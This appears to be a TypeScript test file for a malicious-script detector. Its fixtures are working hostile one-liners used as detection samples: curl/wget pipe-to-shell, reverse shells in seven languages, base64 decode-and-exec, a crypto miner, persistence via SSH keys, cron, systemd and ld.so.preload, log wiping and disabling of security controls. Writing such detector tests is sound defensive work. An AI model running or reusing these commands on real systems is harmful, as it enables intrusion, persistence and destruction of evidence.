import assert from 'node:assert/strict';
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { analyzeFile } from './analyze-file.ts';
import { bufferReader } from './byte-reader.ts';
import { analyzeScript } from './script.ts';
import { decideVerdict } from './verdict.ts';

const ids = (text: string, interp = 'bash'): string[] => analyzeScript(text, interp).findings.map((f) => f.id);

describe('analyzeScript detects', () => {
  const cases: [string, string, string, string][] = [
    // [expected id, interpreter, text, description]
    ['script.download-exec', 'bash', 'curl -fsSL http://x.example/i.sh | sh\n', 'curl | sh'],
    ['script.download-exec', 'bash', 'wget -q -O- http://x.example/i | sudo bash\n', 'wget -O- | sudo bash'],
    ['script.download-exec', 'bash', 'bash -c "$(curl -s http://x.example/a)"\n', 'bash -c "$(curl …)"'],
    ['script.download-exec', 'sh', 'wget http://x/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k\n', 'download, chmod +x, run'],
    ['script.download-exec', 'python3', 'import urllib.request\nexec(urllib.request.urlopen("http://x/p").read())\n', 'python urllib + exec'],
    ['script.reverse-shell', 'bash', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'bash /dev/tcp'],
    ['script.reverse-shell', 'sh', 'nc -e /bin/sh 10.0.0.1 4444\n', 'nc -e'],
    ['script.reverse-shell', 'sh', 'socat tcp-connect:10.0.0.1:4444 exec:/bin/bash,pty,stderr\n', 'socat exec'],
    ['script.reverse-shell', 'sh', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n', 'mkfifo + nc'],
    ['script.reverse-shell', 'python3', 'import socket,os,pty\ns=socket.socket();s.connect(("10.0.0.1",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\n', 'python dup2 + pty'],
    ['script.reverse-shell', 'perl', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\n', 'perl socket'],
    ['script.reverse-shell', 'php', '<?php $sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\n', 'php fsockopen'],
    ['script.reverse-shell', 'ruby', 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\n', 'ruby TCPSocket'],
    ['script.obfuscation.decode-exec', 'bash', 'echo ZWNobyBoaQo= | base64 -d | bash\n', 'base64 -d | bash'],
    ['script.obfuscation.decode-exec', 'bash', 'eval "$(echo ZWNobyBoaQo= | base64 --decode)"\n', 'eval $(… base64 --decode)'],
    ['script.obfuscation.decode-exec', 'python3', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', 'python exec(b64decode)'],
    ['script.obfuscation.decode-exec', 'php', '<?php eval(gzinflate(base64_decode("S0lNzs8vSs0tKEotLlYEAA=="))); ?>\n', 'php eval(gzinflate(base64_decode'],
    ['script.miner', 'bash', './xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4Abc --donate-level 1\n', 'xmrig'],
    ['script.persistence.ssh-key', 'bash', 'echo "ssh-rsa AAAAB3Nz attacker" >> ~/.ssh/authorized_keys\n', 'authorized_keys append'],
    ['script.persistence.cron', 'bash', '(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x") | crontab -\n', 'crontab -'],
    ['script.persistence.systemd', 'bash', 'cat > /etc/systemd/system/updater.service <<EOF\n[Service]\nExecStart=/tmp/.x\nEOF\nsystemctl enable updater\n', 'systemd unit'],
    ['script.persistence.ld-preload', 'bash', 'echo /usr/lib/libx.so > /etc/ld.so.preload\n', 'ld.so.preload'],
    ['script.anti-forensics.history', 'bash', 'unset HISTFILE\nhistory -c\n', 'history clearing'],
    ['script.anti-forensics.logs', 'bash', 'cat /dev/null > /var/log/wtmp\nrm -f /var/log/auth.log\n', 'log wiping'],
    ['script.defense-evasion', 'bash', 'setenforce 0\nufw disable\n', 'security off'],
    ['script.obfuscation.long-line', 'bash', `x='${'a'.repeat(5000)}'\n`, 'long line'],
    ['script.obfuscation.escapes', 'python3', `print("${'\\x41'.repeat(200)}")\n`, 'escapes'],
    ['script.blob.base64', 'bash', `p=${Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 7919) % 251)).toString('base64')}\n`, 'base64 blob'],
    ['script.blob.hex', 'python3', `p = bytes.fromhex("${Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 31) % 256)).toString('hex')}")\n`, 'hex blob'],
  ];
  for (const [id, interp, text, what] of cases) {
    it(`${id}: ${what}`, () => assert.ok(ids(text, interp).includes(id), ids(text, interp).join(',')));
  }

  it('reverse shell and download-exec each make a script suspicious on their own', () => {
    for (const text of ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n', 'curl http://x/i.sh | bash\n']) {
      assert.equal(decideVerdict({ findings: analyzeScript(text, 'bash').findings }).verdict, 'suspicious');
    }
  });
});

describe('analyzeScript stays quiet on ordinary scripts', () => {
  it('ordinary shell and python', () => {
    assert.deepEqual(ids('#!/bin/sh\nset -e\nfor f in "$@"; do\n  gzip -9 "$f"\ndone\ncurl -o out.tgz https://example.org/a.tgz\n'), []);
    assert.deepEqual(ids('import os, socket\nprint(socket.gethostname())\nos.system("ls")\n', 'python3'), []);
    assert.deepEqual(ids('crontab -l\nsystemctl status ssh\ncat ~/.ssh/authorized_keys\n'), []);
  });

  it('no shebang script on this machine scores suspicious', (t) => {
    const bad: string[] = [];
    let n = 0;
    for (const dir of ['/usr/bin', '/usr/sbin', '/etc/init.d', '/usr/share/debconf', '/usr/lib/dpkg']) {
      let names: string[];
      try {
        names = readdirSync(dir);
      } catch {
        continue;
      }
      for (const name of names) {
        const p = `${dir}/${name}`;
        const st = lstatSync(p);
        if (!st.isFile() || st.size > 1 << 20) continue;
        const bytes = readFileSync(p);
        if (bytes[0] !== 0x23 || bytes[1] !== 0x21) continue;
        n++;
        const a = analyzeFile(bufferReader(bytes));
        const v = decideVerdict({ findings: a.findings });
        if (v.verdict !== 'unknown') bad.push(`${p}: ${v.verdict} ${a.findings.map((f) => f.id).join(',')}`);
      }
    }
    t.diagnostic(`${n} scripts checked`);
    assert.ok(n > 20);
    assert.deepEqual(bad, []);
  });
});
